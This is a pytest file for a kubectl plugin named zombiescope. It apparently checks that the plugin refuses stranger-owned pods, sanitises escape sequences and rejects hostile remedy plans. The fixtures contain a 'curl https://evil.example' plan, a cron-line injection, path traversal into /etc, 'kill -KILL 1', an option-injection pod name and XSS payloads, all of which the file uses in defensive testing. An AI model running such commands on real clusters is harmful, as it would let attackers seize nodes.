"""A pod that a stranger made, or that lies, behind `kubectl zombiescope`; a program on PATH stands for the cluster."""

from __future__ import annotations

import io
import json
import sys
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from tests.attacks.test_pasted_commands import every_plan
from tests.conftest import PROJECT

from zombiescope.outputs.json import shape
from zombiescope.plugin import pods
from zombiescope.plugin.__main__ import main
from zombiescope.plugin.answers import REFUSED, answer
from zombiescope.remedies import stop_empty_scopes

# What it is asked goes to a file; what a pod says, and which pods there are, come from files.
KUBECTL = """#!{python}
import json, sys
from pathlib import Path
here, words = Path({folder!r}), sys.argv[1:]
with open(here / "asked", "a") as out:
    out.write(json.dumps(words) + chr(10))
if words[:2] == ["get", "node"]:
    print(json.dumps({{"status": {{"conditions": [{{"type": "Ready", "status": "True"}}]}}}}))
elif words[0] == "get":
    items = json.loads((here / "pods").read_text())
    if "--namespace" in words:
        items = [it for it in items if it["metadata"]["namespace"] == words[words.index("--namespace") + 1]]
    print(json.dumps({{"items": items}}))
elif words[0] == "exec":
    if "-it" in words or sys.stdin.isatty():
        print("A TERMINAL")
    sys.stdout.buffer.write((here / "says").read_bytes())
    sys.stderr.buffer.write((here / "complains").read_bytes())
    sys.exit(1)
"""
PYTHON = sys.executable
STOP_SCOPES = stop_empty_scopes.COMMAND[2]
ESCAPES = b"\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b5m\r\xe2\x80\xae evil\n"


def pod(namespace: str = "zombiescope", name: str = "zombiescope-x7k2p", **change: Any) -> dict[str, Any]:
    owner = {"apiVersion": "apps/v1", "kind": "DaemonSet", "name": "zombiescope", "controller": True}
    about = {"namespace": namespace, "name": name, "labels": {"app.kubernetes.io/name": "zombiescope"}}
    spec = {"nodeName": "n1", "serviceAccountName": "zombiescope", "containers": [{"name": "agent"}]}
    made: dict[str, dict[str, Any]] = {"metadata": about | {"ownerReferences": [owner]}, "spec": spec}
    for key, value in change.items():
        part = "spec" if key in spec else "metadata"
        made[part] = {**made[part], key: value}
    return made


Cluster = Callable[..., Callable[[], list[list[str]]]]


@pytest.fixture
def cluster(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Cluster:
    def made(*its: dict[str, Any], says: bytes = b"", complains: bytes = b"") -> Callable[[], list[list[str]]]:
        program = tmp_path / "kubectl"
        program.write_text(KUBECTL.format(python=PYTHON, folder=str(tmp_path)))
        program.chmod(0o755)
        (tmp_path / "pods").write_text(json.dumps(its))
        (tmp_path / "says").write_bytes(says)
        (tmp_path / "complains").write_bytes(complains)
        monkeypatch.setenv("PATH", str(tmp_path))

        def asked() -> list[list[str]]:
            return [json.loads(line) for line in (tmp_path / "asked").read_text().splitlines()]

        return asked

    return made


def owned_by(**change: Any) -> list[dict[str, Any]]:
    owner = {"apiVersion": "apps/v1", "kind": "DaemonSet", "name": "zombiescope", "controller": True}
    return [owner | change]


STRANGERS = {
    "another namespace": pod("aaa-tenant", "zombiescope-evil"),
    "no owner": pod(ownerReferences=[]),
    "owners that are none": pod(ownerReferences="zombiescope"),
    "a Deployment": pod(ownerReferences=owned_by(kind="ReplicaSet")),
    "another DaemonSet": pod(ownerReferences=owned_by(name="evil")),
    "a DaemonSet that does not control it": pod(ownerReferences=owned_by(controller=False)),
    "another API": pod(ownerReferences=owned_by(apiVersion="evil.example/v1")),
    "another service account": pod(serviceAccountName="default"),
    "no container of ours": pod(containers=[{"name": "web"}, "agent"]),
    "another node": pod(nodeName="n2"),
    "a name that is an option": pod(name="--kubeconfig=/tmp/evil"),
}


@pytest.mark.parametrize("why", STRANGERS)
@pytest.mark.parametrize("verb", ["top", "flame", "view", "drain"])
def test_a_stranger_s_pod_has_our_label(why: str, verb: str, cluster: Cluster, capfd: Any) -> None:
    """A tenant labels its pod `app.kubernetes.io/name=zombiescope`: it was run as the agent of the node."""
    asked = cluster(STRANGERS[why], says=b"<script>alert(1)</script>")
    assert main([verb, "n1"]) == 2
    assert "no agent runs on n1 (DaemonSet zombiescope in namespace zombiescope)" in capfd.readouterr().err
    assert not [it for it in asked() if it[0] in ("exec", "port-forward")]


def test_a_stranger_s_pod_comes_first_in_the_list(cluster: Cluster, capfd: Any) -> None:
    """Its namespace sorts before ours; ours is asked, and the other is never spoken to."""
    asked = cluster(pod("aaa-tenant", "evil"), pod(), says=b"fine\n")
    assert main(["flame", "n1"]) == 1
    (run,) = [it for it in asked() if it[0] == "exec"]
    assert run[run.index("--namespace") + 1] == "zombiescope" and "zombiescope-x7k2p" in run
    assert capfd.readouterr().out == "fine\n"


def test_an_agent_elsewhere_has_to_be_named(cluster: Cluster, capfd: Any) -> None:
    """Another release of the chart is found by its namespace and its DaemonSet, and by both alone."""
    ours = pod("look", ownerReferences=owned_by(name="b-zombiescope"), serviceAccountName="b-zombiescope")
    cluster(ours, says=b"fine\n")
    assert main(["flame", "n1"]) == main(["flame", "n1", "--namespace", "look"]) == 2
    assert "belong to DaemonSet zombiescope" in capfd.readouterr().err
    assert main(["flame", "n1", "-n", "look", "--daemonset", "b-zombiescope"]) == 1


@pytest.mark.parametrize("verb", ["diagnose", "top", "flame", "drain", "drain --undo"])
def test_a_pod_writes_escape_sequences(verb: str, cluster: Cluster, capfd: Any) -> None:
    """A pod prints what a terminal obeys, on both streams: `diagnose` passed it on, `top` gave it the terminal."""
    cluster(pod(), says=ESCAPES, complains=ESCAPES)
    main([*verb.split(), "n1"])
    told = capfd.readouterr()
    for stream in (told.out, told.err):
        assert "evil" in stream and "A TERMINAL" not in stream
        assert all(line.isprintable() for line in stream.splitlines())


def plan(name: str, subject: str, *argv: str, stdin: str = "", risk: str = "safe") -> dict[str, Any]:
    steps = [{"says": "does it", "argv": list(argv), "stdin": stdin, "risk": risk}]
    return {"name": name, "cures": "x", "subject": subject, "risk": risk, "command": "id", "steps": steps}


PLANS = [
    plan("stop_leaking_unit", "unit:a.service", "sh", "-c", "id"),
    plan("stop_leaking_unit", "unit:a.service", "systemctl", "stop", "--", "kubelet.service"),
    plan("stop_leaking_unit", "unit:a.service", "systemctl", "stop", "--", "a.service", "kubelet.service"),
    plan("stop_leaking_unit", "unit:*", "systemctl", "stop", "--", "*"),
    plan("stop_leaking_unit", "unit:a.service", "systemctl", "start", "--", "a.service"),
    plan("stop_leaking_unit", "unit:a.service", "/bin/systemctl", "stop", "--", "a.service"),
    plan("reap_defunct", "process:x[1]", "kill", "-KILL", "1"),
    plan("reap_defunct", "process:x[1]", "kill", "-CHLD", "-1"),
    plan("move_irq_off_core", "cpu:1", "tee", "/etc/cron.d/x", stdin="1\n"),
    plan("move_irq_off_core", "cpu:1", "tee", "/proc/irq/1/smp_affinity_list", stdin="1\n* * * * * root id\n"),
    plan("thaw", "cgroup:/x", "tee", "/sys/fs/cgroup/../../../etc/cgroup.freeze", stdin="0"),
    plan("stop_empty_scopes", "node", "sh", "-c", STOP_SCOPES + "; id", "stop", "x.scope"),
    plan("stop_empty_scopes", "node", "sh", "-c", STOP_SCOPES, "stop", "x.service"),
    plan("purge_zombies", "controller:memory", "/usr/bin/python3", "-I", "/tmp/own_python.py", "os"),
    plan("ask_owner", "node", "kill", "-CHLD", "7"),
    plan("curl | sh", "node", "curl", "https://evil.example"),
]


@pytest.mark.parametrize("its", PLANS, ids=lambda it: " ".join(it["steps"][0]["argv"])[:50])
def test_a_pod_plans_a_command_of_its_own(its: dict[str, Any], cluster: Cluster, capfd: Any) -> None:
    """`fix` printed it as a root command of a safe plan."""
    cluster(pod(), says=json.dumps({"findings": [], "remedies": [its]}).encode())
    main(["fix", "n1", "--apply"])
    script = capfd.readouterr().out.splitlines()
    assert not [line for line in script if not line.startswith("#")] and any(REFUSED in line for line in script)
    main(["fix", "n1"])
    assert "$" not in capfd.readouterr().out
    main(["diagnose", "n1", "--format", "json"])
    (told,) = json.loads(capfd.readouterr().out)["remedies"]
    assert told["command"] == "" and not told["steps"][0]["argv"] and told["refused"] == REFUSED


@pytest.mark.parametrize(
    "says",
    [
        b"",
        b"[]",
        b"[" * 100_000,
        b'{"findings": [], "remedies": "all"}',
        b'{"findings": [], "remedies": [{"name": 1}]}',
        b'{"findings": [], "remedies": [null]}',
        b'{"findings": [], "remedies": [], "x": NaN}',
        b'{"findings": {}, "remedies": []}',
        json.dumps({"findings": [], "remedies": [PLANS[0] | {"steps": [{"argv": "id"}]}]}).encode(),
        json.dumps({"findings": [], "remedies": [PLANS[0] | {"risk": "harmless"}]}).encode(),
        json.dumps({"findings": [], "remedies": [PLANS[0]] * 3000}).encode(),
    ],
    ids=range(11),
)
def test_a_pod_answers_in_another_shape(says: bytes, cluster: Cluster, capfd: Any) -> None:
    """One line, exit code 2, and nothing of it is shown."""
    cluster(pod(), says=says, complains=ESCAPES)
    for argv in (["fix", "n1"], ["fix", "n1", "--apply", "--allow-disruptive"], ["diagnose", "n1", "--format", "json"]):
        assert main(argv) == 2
        told = capfd.readouterr()
        assert told.out == "" and "no answer from n1 that can be understood" in told.err
        assert all(line.isprintable() for line in told.err.splitlines())


def test_a_pod_serves_a_page(cluster: Cluster, tmp_path: Path, capfd: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """`view` led the browser to the pod; now the pod gives data, and what is installed here shows it."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        entry = tarfile.TarInfo("meta.json")
        entry.size = 2
        archive.addfile(entry, io.BytesIO(b"{}"))
    asked = cluster(pod(), says=out.getvalue(), complains=ESCAPES)
    installed = tmp_path / "zombiescope"
    installed.write_text('#!/bin/sh\necho "shown by our own: $*"\n')
    installed.chmod(0o755)
    monkeypatch.setattr(sys, "executable", str(tmp_path / "python3"))
    assert main(["view", "n1"]) == 0
    told = capfd.readouterr()
    assert told.out.startswith("shown by our own: view --open /") and told.err.replace("\n", "").isprintable()
    assert not [it for it in asked() if it[0] == "port-forward"]
    cluster(pod(), says=b"<html><script>alert(1)</script>")
    assert main(["view", "n1"]) == 2
    assert "did not come whole" in capfd.readouterr().err


@pytest.mark.parametrize("form", ["html", "dot"])
def test_a_pod_writes_html(form: str, cluster: Cluster, capfd: Any) -> None:
    """`diagnose --format html > x.html` gave a stranger's page to the browser."""
    asked = cluster(pod(), says=b"<script>alert(1)</script>")
    with pytest.raises(SystemExit) as ended:
        main(["diagnose", "n1", "--format", form])
    assert ended.value.code == 2 and "invalid choice" in capfd.readouterr().err
    with pytest.raises(FileNotFoundError):
        asked()


def test_a_pod_never_ends(cluster: Cluster, capfd: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """It prints for ever: it is stopped."""
    monkeypatch.setattr("zombiescope.plugin.kubectl.MOST", 1000)
    monkeypatch.setattr("zombiescope.plugin.kubectl.MOST_ANSWER", 1000)
    cluster(pod(), says=b"x" * 500 + b"\n" + b"y" * 5_000_000, complains=b"z\n" * 2_000_000)
    assert main(["flame", "n1"]) == 2
    assert main(["diagnose", "n1", "--format", "json"]) == 2
    told = capfd.readouterr()
    assert len(told.out) <= 1000 and len(told.err) < 4000 and "stopped" in told.err and "longer than" in told.err


def test_what_our_own_remedies_plan_is_not_refused() -> None:
    """No attack: each command of each remedy has its shape here."""
    for case, its in every_plan("good.service"):
        told = answer(json.dumps(shape(case) | {"remedies": shape_of(its, case)}), "n1")
        assert not any(it["refused"] for it in told["remedies"]), its


def shape_of(its: Any, case: Any) -> list[Any]:
    from dataclasses import replace

    return list(shape(replace(case, plans=(its,)))["remedies"])


def test_the_names_are_those_that_are_deployed() -> None:
    """No attack: namespace, DaemonSet and service account of deploy/ are those that the plugin asks for."""
    base = PROJECT / "deploy" / "kustomize" / "base"
    daemonset = (base / "daemonset.yaml").read_text()
    assert f"kind: DaemonSet\nmetadata:\n  name: {pods.DAEMONSET}\n  namespace: {pods.NAMESPACE}\n" in daemonset
    assert f"serviceAccountName: {pods.DAEMONSET}\n" in daemonset and "- name: agent\n" in daemonset
    assert f"name: {pods.NAMESPACE}\n" in (base / "namespace.yaml").read_text()
    chart = PROJECT / "deploy" / "helm" / "zombiescope" / "templates"
    same = '{{ include "zombiescope.name" . }}'
    assert f"name: {same}" in (chart / "daemonset.yaml").read_text()
    assert f"serviceAccountName: {same}" in (chart / "daemonset.yaml").read_text()
    page = (PROJECT / "docs" / "kubernetes.md").read_text()
    assert f"helm install {pods.DAEMONSET} deploy/helm/zombiescope --namespace {pods.NAMESPACE} " in page
